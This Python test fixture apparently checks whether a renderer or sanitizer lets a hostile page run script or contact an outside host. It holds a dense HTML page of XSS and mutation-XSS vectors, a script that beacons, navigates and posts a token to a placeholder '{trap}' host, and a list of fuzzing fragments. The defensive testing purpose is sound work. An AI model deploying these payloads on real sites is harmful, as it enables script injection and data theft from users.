"""A page that tries whatever pages have tried, against whoever shows it; `{trap}` is where it would call home."""

__all__ = ["HOSTILE_HTML", "HOSTILE_TITLE", "OWNED_SCRIPT", "PIECES", "hostile"]

HOSTILE_TITLE = "Tolls at the ford"
OWNED_SCRIPT = "document.title='owned';try{top.document.title='owned'}catch(e){};try{top.location='{trap}/top'}catch(e){};fetch('{trap}/fetch');new Image().src='{trap}/img-by-script';navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js');window.open('{trap}/open');alert(1)"
HOSTILE_HTML = """<!doctype html>
<html manifest="{trap}/manifest"><head>
<title>Tolls at the ford</title>
<base href="{trap}/base/" target="_top">
<meta http-equiv="refresh" content="0;url={trap}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline' 'unsafe-eval'">
<meta http-equiv="Set-Cookie" content="owned=1">
<meta name="referrer" content="unsafe-url">
<link rel="stylesheet" href="{trap}/sheet.css">
<link rel="preload" as="image" href="{trap}/preload.png"><link rel="prefetch" href="{trap}/prefetch">
<link rel="dns-prefetch" href="{trap}"><link rel="preconnect" href="{trap}"><link rel="modulepreload" href="{trap}/module.js">
<link rel="icon" href="{trap}/icon.png"><link rel="manifest" href="{trap}/app.json"><link rel="prerender" href="{trap}/prerender">
<script>{script}</script><script src="{trap}/script.js"></script><script type="module" src="{trap}/module.js"></script>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{trap}/speculation"]}}]}}</script>
<style>@import url("{trap}/import.css"); body {{ background: url({trap}/css.png); }} @font-face {{ font-family: x; src: url({trap}/font.woff2); }} p {{ font-family: x; cursor: url({trap}/cursor.png), auto; }}</style>
</head>
<body onload="{script}" onpageshow="{script}" background="{trap}/background.png" style="background-image:url({trap}/style.png)">
<h1 id="passage" onclick="{script}">Tolls at the ford</h1>
<p style="background:url({trap}/p.png);position:fixed;inset:0;z-index:9999">The toll at the ford was raised to 16 crowns on Monday.</p>
<img src="{trap}/img.png" srcset="{trap}/srcset.png 2x" onerror="{script}" alt="a barge" loading="eager" ping="{trap}/ping">
<picture><source srcset="{trap}/source.webp"><img src=x onerror="{script}"></picture>
<input type="image" src="{trap}/input.png" autofocus onfocus="{script}"><video src="{trap}/video.mp4" poster="{trap}/poster.png" autoplay></video>
<audio src="{trap}/audio.mp3" autoplay></audio><embed src="{trap}/embed.swf"><object data="{trap}/object.html"><param name="movie" value="{trap}/param.swf"></object>
<iframe src="{trap}/iframe.html"></iframe><iframe srcdoc="<script>{script}</script><img src={trap}/srcdoc.png>"></iframe>
<frameset><frame src="{trap}/frame.html"></frameset><portal src="{trap}/portal"></portal><fencedframe src="{trap}/fenced"></fencedframe>
<svg onload="{script}"><script>{script}</script><image href="{trap}/svg.png"/><use href="{trap}/use.svg#x"/><foreignObject><iframe src="{trap}/foreign.html"></iframe></foreignObject><animate onbegin="{script}" attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{script}"></style></mglyph></table></mtext><maction actiontype="statusline#{trap}" xlink:href="javascript:{script}">x</maction></math>
<form id="f" action="{trap}/form" method="post" target="_top"><input name="token" value="x"><button formaction="{trap}/formaction">Send</button></form>
<a id="a-js" href="javascript:{script}">run</a> <a id="a-data" href="data:text/html,<script>{script}</script>">data</a>
<a id="a-top" href="{trap}/link" target="_top" ping="{trap}/a-ping">away</a> <a id="a-blank" href="{trap}/blank" target="_blank">open</a>
<a id="a-download" href="{trap}/download" download>get</a> <area shape="default" href="{trap}/area">
<details ontoggle="{script}" open><summary>more</summary>text</details><marquee onstart="{script}">x</marquee>
<template shadowrootmode="open"><img src="{trap}/shadow.png"></template><noscript><img src="{trap}/noscript.png"></noscript>
<noscript><p title="</noscript><img src=x onerror={script}>"></noscript><textarea></textarea><img src=x onerror="{script}"></textarea>
<table background="{trap}/table.png"><tr><td background="{trap}/td.png">x</table><bgsound src="{trap}/bgsound"><layer src="{trap}/layer">
<xml id=i><x><c><![CDATA[<img src="{trap}/cdata.png" onerror="{script}">]]></c></x></xml><!--><img src=x onerror="{script}">--><!--[if gte IE 4]><script>{script}</script><![endif]-->
<plaintext><img src="{trap}/plaintext.png">
</body></html>"""

# What such pages are made of, to be put together at random.
PIECES = [
    "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", "<?x", "\"", "'", "`", "=", " ", "\n", "\0", "&", "&lt;", "&#x3c;",
    "&lt", "&quot;", "&nbsp;", "script", "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>",
    "<mglyph>", "<table>", "<tr>", "<td>", "<select>", "<option>", "<template>", "</template>", "<title>", "</title>", "<textarea>",
    "</textarea>", "<noscript>", "</noscript>", "<iframe>", "</iframe>", "<xmp>", "<plaintext>", "<p ", "<a href=", "<img src=",
    "<img alt='", "javascript:alert(1)", "data:image/png;base64,AAAA", "data:text/html,x", " onerror=alert(1)", " id=passage",
    " title=", "<mark id=passage>", "</mark>", "<b>", "</b>", "<details>", "toll", "16 crowns", "The toll rose", "\u202e", "\U0001f6a2",
    "\ufeff", "<form action=x>", "<base href=//x>", "<meta http-equiv=refresh content=0>", "<foreignObject>", "<annotation-xml>",
]  # fmt: skip


def hostile(trap: str) -> str:
    """Return the page with its home filled in."""
    script = OWNED_SCRIPT.replace("{trap}", trap)
    return HOSTILE_HTML.format(trap=trap, script=script)
